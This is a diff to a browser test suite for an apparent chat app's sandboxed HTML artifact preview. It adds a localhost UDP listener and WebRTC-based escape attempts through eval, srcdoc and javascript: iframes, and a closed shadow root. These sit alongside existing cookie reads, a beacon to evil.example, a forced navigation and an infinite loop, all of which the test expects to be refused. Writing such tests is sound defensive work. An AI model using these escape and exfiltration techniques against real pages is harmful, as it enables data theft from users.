@@ -1,4 +1,5 @@
-import { beforeAll, expect, it } from "vitest";
+import { createSocket } from "node:dgram";
+import { afterAll, beforeAll, expect, it } from "vitest";
 import { findings } from "./axe.js";
 import { asked, exportOf, said } from "./prepared-conversation.js";
 import { describePage } from "./stage.js";
@@ -57,7 +58,8 @@ const bombs = [
   "The end of the bombs.",
 ].join("\n\n");
 
-const attempts = `<p id="state">waiting</p>
+/** HTML that tries to get out. `port`: where calls between browsers would be noticed. */
+const attempts = (port: number) => `<p id="state">waiting</p>
 <script>
 const outcomes = {};
 const attempt = (name, work) => { try { const value = work(); outcomes[name] = value === undefined ? "nothing" : String(value); } catch (error) { outcomes[name] = "refused"; } };
@@ -71,6 +73,12 @@ attempt("cookie", () => document.cookie);
 attempt("database", () => indexedDB.open("x") && "opened");
 attempt("popup", () => open("https://evil.example/popup"));
 attempt("calls", () => typeof RTCPeerConnection);
+const call = "const made = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }); made.createDataChannel('x'); made.createOffer().then((offer) => made.setLocalDescription(offer));";
+attempt("own call", () => { eval(call); });
+for (const frame of [{ srcdoc: "<script>" + call + "<" + "/script>" }, { src: "javascript:" + call }])
+  document.documentElement.append(Object.assign(document.createElement("iframe"), frame));
+const host = document.createElement("div"); document.documentElement.append(host);
+host.attachShadow({ mode: "closed" }).append(Object.assign(document.createElement("iframe"), { srcdoc: "<script>" + call + "<" + "/script>" }));
 const inner = document.createElement("iframe"); document.documentElement.append(inner);
 attempt("inner frame", () => inner.contentWindow.parent.parent.document.title);
 attempt("worker", () => new Worker("/frames/artifact.js"));
@@ -92,11 +100,13 @@ attempt("beacon", () => navigator.sendBeacon("https://evil.example/beacon", "x")
 Promise.all(asking).then((reached) => { outcomes.fetch = reached.join(); document.getElementById("state").textContent = JSON.stringify(outcomes); setTimeout(() => { location.href = "https://evil.example/leave"; }, 300); });
 </script>`;
 
-const artifact = `\`\`\`html\n<h1>Counter</h1><button onclick="this.textContent = Number(this.textContent) + 1">0</button>\n\`\`\`
+const artifact = (
+  port: number,
+) => `\`\`\`html\n<h1>Counter</h1><button onclick="this.textContent = Number(this.textContent) + 1">0</button>\n\`\`\`
 
 \`\`\`svg\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" width="200"><circle cx="5" cy="5" r="4" fill="teal"/></svg>\n\`\`\`
 
-\`\`\`html\n${attempts}\n\`\`\`
+\`\`\`html\n${attempts(port)}\n\`\`\`
 
 \`\`\`html\n<script>while (true) {}</script>\n\`\`\`
 
@@ -110,12 +120,19 @@ const open = async (tab: Tab, text: string) => {
 };
 
 describePage("rich answers", {}, (stage) => {
+  const calls = createSocket("udp4");
+  let called = 0;
+  calls.on("message", () => {
+    called += 1;
+  });
+  afterAll(() => calls.close());
   beforeAll(async () => {
+    await new Promise<void>((resolve) => calls.bind(0, "127.0.0.1", resolve));
     const turn = (question: string, answer: string) => [[asked(question), said(answer)]];
     const all = {
       rich: [formulas, words, diagram, code, pictures, "That is all."].join("\n\n"),
       bombs,
-      artifact,
+      artifact: artifact(calls.address().port),
       long,
     };
     for (const [id, answer] of Object.entries(all))
@@ -283,6 +300,7 @@ describePage("rich answers", {}, (stage) => {
       database: "refused",
       popup: "null",
       calls: "undefined",
+      "own call": "refused",
       "inner frame": "refused",
       worker: "refused",
       alert: "nothing",
@@ -294,7 +312,7 @@ describePage("rich answers", {}, (stage) => {
     // It tried to leave, at last: it got nowhere.
     await expect.poll(() => tab.problems().join("\n"), patience).toMatch(/frame-src|evil\.example\/leave/);
     expect(tab.page.url()).toBe(`${stage().url}/c/artifact`);
-    expect(reached).toEqual([]);
+    expect({ reached, called }).toEqual({ reached: [], called: 0 });
 
     // One that never ends takes the page with it no more than that.
     await preview.nth(3).click();
